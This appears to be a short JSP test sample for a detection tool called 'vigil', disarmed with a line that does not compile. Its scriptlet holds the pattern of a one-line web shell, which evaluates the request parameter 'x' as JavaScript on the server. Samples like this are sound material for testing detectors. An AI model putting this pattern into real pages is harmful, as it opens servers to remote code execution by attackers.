<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
    Object r = new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("x"));
%>
